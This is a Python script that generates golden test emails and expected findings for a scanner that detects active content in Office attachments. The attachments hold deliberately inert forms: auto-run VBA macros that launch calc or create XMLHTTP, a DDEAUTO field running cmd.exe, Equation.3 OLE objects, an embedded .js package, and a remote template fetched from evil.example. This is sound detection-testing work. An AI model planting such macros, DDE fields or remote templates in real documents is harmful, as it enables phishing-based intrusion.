#!/usr/bin/env python3
"""Writes the golden cases of content.office-active:  tests/lib/office_cases.py  (from the project's root).

Macros, templates and objects are the smallest that have the form; none of them does anything.
"""
import base64
import io
import json
import os
import struct
import zipfile

import outlook

ROOT = "tests/golden/content.office-active"
TYPES = "<?xml version='1.0'?><Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'/>"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
EQUATION = bytes.fromhex("02ce020000000000c000000000000046")


def compressed(text):
    """[MS-OVBA] 2.4.1, literals only."""
    raw = text.encode("cp932")
    assert len(raw) < 3600
    body = b"".join(b"\0" + raw[i:i + 8] for i in range(0, len(raw), 8))
    return b"\1" + struct.pack("<H", 0xB000 | (len(body) - 1)) + body


def vba(module, source):
    text = f'Attribute VB_Name = "{module}"\r\n{source}'
    return {"VBA": {"dir": compressed("none"), module: bytes(40) + compressed(text), "_VBA_PROJECT": b"\xcc\x61"}, "PROJECT": b"ID=x"}


def package(name, data):
    whole = name.encode() + b"\0C:\\" + name.encode() + b"\0" + bytes(4) + struct.pack("<I", 4) + b"t:\\\0" + struct.pack("<I", len(data)) + data
    return struct.pack("<I", len(whole) + 2) + b"\2\0" + whole


def ooxml(members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in [("[Content_Types].xml", TYPES), *members.items()]:
            archive.writestr(zipfile.ZipInfo(name, (2019, 8, 1, 0, 0, 0)), content, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def relationships(*rows):
    return "<Relationships>" + "".join(f'<Relationship Id="r{i}" Type="{REL}/{kind}" Target="{target}" TargetMode="External"/>'
                                       for i, (kind, target) in enumerate(rows)) + "</Relationships>"


def rtf_object(class_name, native):
    data = struct.pack("<III", 0x0501, 2, len(class_name) + 1) + class_name.encode() + b"\0" + struct.pack("<III", 0, 0, len(native)) + native
    return b"{\\rtf1\\ansi see{\\object\\objemb{\\*\\objdata " + data.hex().encode() + b"}}}"


def mail(case, subject, text, name, data, findings, absent=()):
    folder = os.path.join(ROOT, case)
    os.makedirs(folder, exist_ok=True)
    head = f"=?utf-8?b?{base64.b64encode(subject.encode()).decode()}?="
    attached = f"=?utf-8?b?{base64.b64encode(name.encode()).decode()}?="
    with open(os.path.join(folder, "mail-01.eml"), "wb") as file:
        file.write((f"From: x@random.example\nTo: alice@a-company.example\nSubject: {head}\nDate: Fri, 12 Jul 2019 09:00:00 +0900\n"
                    f"Message-ID: <{case}@random.example>\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"=_part\"\n\n--=_part\n"
                    f"Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n{text}\n\n--=_part\n"
                    f"Content-Type: application/octet-stream; name=\"{attached}\"\nContent-Disposition: attachment; filename=\"{attached}\"\n"
                    f"Content-Transfer-Encoding: base64\n\n").encode() + base64.encodebytes(data) + b"--=_part--\n")
    expect = {"findings": [{"id": "content.office-active", "strength": strength, "evidence": [{"where": "attachment:2", "stream": stream, "found": found}]}
                           for strength, stream, found in findings]}
    if absent:
        expect = {"absent": list(absent)}
    with open(os.path.join(folder, "expect.json"), "w", encoding="utf-8") as file:
        json.dump(expect, file, ensure_ascii=False, indent=1)
        file.write("\n")


AUTO = "Private Sub Workbook_Open()\r\n    Shell \"calc.exe\", 0\r\nEnd Sub\r\n"
mail("found-ja-macro", "見積のお願い", "見積書をお送りします。", "見積書.xlsm", ooxml({"xl/workbook.xml": "<workbook/>",
     "xl/vbaProject.bin": outlook.cfb(vba("ThisWorkbook", AUTO))}),
     [("medium", "xl/vbaProject.bin/VBA/ThisWorkbook", "Workbook_Open, Shell")])
mail("found-en-doc", "Order", "Please see the order.", "order.doc", outlook.cfb({"WordDocument": bytes(4096),
     "Macros": vba("NewMacros", "Sub AutoOpen()\r\n Go\r\nEnd Sub\r\nSub Go()\r\n Set x = CreateObject(\"MSXML2.XMLHTTP\")\r\nEnd Sub\r\n")}),
     [("medium", "Macros/VBA/NewMacros", "AutoOpen, CreateObject")])
mail("found-en-macro-weak", "Budget", "The budget as agreed.", "budget.xls", outlook.cfb({"Workbook": bytes(4096),
     "_VBA_PROJECT_CUR": vba("Module1", "Public Sub Total()\r\n Range(\"A1\") = 1\r\nEnd Sub\r\n")}),
     [("weak", "_VBA_PROJECT_CUR/VBA", "VBA")])
mail("found-en-template", "Minutes", "The minutes are attached.", "minutes.docx", ooxml({"word/document.xml": "<w:document/>",
     "word/_rels/settings.xml.rels": relationships(("attachedTemplate", "https://evil.example/t.dotm"))}),
     [("medium", "word/_rels/settings.xml.rels", "https://evil.example/t.dotm")])
mail("found-ja-dde", "議事録", "議事録です。", "議事録.docx", ooxml({"word/document.xml":
     "<w:document><w:p><w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText xml:space=\"preserve\">AUTO c:\\\\windows\\\\system32\\\\cmd.exe "
     "&quot;/k calc&quot;</w:instrText></w:r></w:p></w:document>"}),
     [("medium", "word/document.xml", "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"")])
mail("found-en-equation", "Specification", "See the specification.", "spec.doc", rtf_object("Equation.3", bytes(64)),
     [("medium", "\\objdata", "Equation.3")])
mail("found-ja-equation", "仕様書", "仕様書をご確認ください。", "仕様書.docx", ooxml({"word/document.xml": "<w:document/>",
     "word/embeddings/oleObject1.bin": outlook.cfb({"\3ObjInfo": b"\0\0"}, EQUATION)}),
     [("medium", "word/embeddings/oleObject1.bin/Root Entry", "Equation.3")])
mail("found-en-package", "Pictures", "Double-click the picture.", "pictures.docx", ooxml({"word/document.xml": "<w:document/>",
     "word/embeddings/oleObject1.bin": outlook.cfb({"\1Ole10Native": package("picture.js", b"none")})}),
     [("medium", "word/embeddings/oleObject1.bin/\1Ole10Native", "picture.js")])
mail("not-ja", "月報", "月報をお送りします。", "月報.docx", ooxml({"word/document.xml":
     "<w:document><w:r><w:instrText> HYPERLINK \"https://a-company.example/\" </w:instrText></w:r><w:t>DDEAUTO という欄について</w:t></w:document>",
     "word/_rels/document.xml.rels": relationships(("hyperlink", "https://a-company.example/"), ("image", "https://a-company.example/logo.png")),
     "word/_rels/settings.xml.rels": relationships(("attachedTemplate", "file:///C:\\Users\\aoki\\Normal.dotm"))}), (), ["content.office-active"])
mail("not-en", "Report", "The report as agreed.", "report.doc", outlook.cfb({"WordDocument": b"plain text, nothing else".ljust(4096, b"\0"),
     "\5SummaryInformation": bytes(200)}), (), ["content.office-active"])
